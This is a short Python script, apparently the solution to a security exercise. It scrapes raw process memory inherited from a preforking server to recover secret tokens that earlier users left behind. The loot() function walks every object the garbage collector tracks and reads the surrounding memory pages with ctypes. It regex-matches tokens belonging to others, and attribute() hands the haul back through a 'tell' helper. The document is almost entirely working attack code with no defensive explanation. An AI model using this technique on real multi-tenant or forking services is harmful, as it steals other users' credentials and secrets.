"""Searches its own memory, which is a copy of the zygote's, for what students before it have left there.

Elsewhere: a preforking server hands on what it has read, to everyone who comes after.
"""

# %% solution="value"
import ctypes
import gc
import re

from toolbox import reached, tell

PATTERN = re.compile(rb"token:(?!input)\w+:[0-9a-f]{16}")


def loot():
    reached()
    gc.unfreeze()
    found, pages = set(), set()
    for thing in gc.get_objects():
        pages.add(id(thing) & ~0xFFF)  # the page that an object begins in is mapped, all of it
        if isinstance(thing, dict):
            pages.update(id(value) & ~0xFFF for value in thing.values())
    for page in sorted(pages)[:30_000]:
        found.update(PATTERN.findall(ctypes.string_at(page, 4096)))
    return found or f"nothing in {len(pages)} pages"


def attribute(prompt, x):
    return tell(loot)
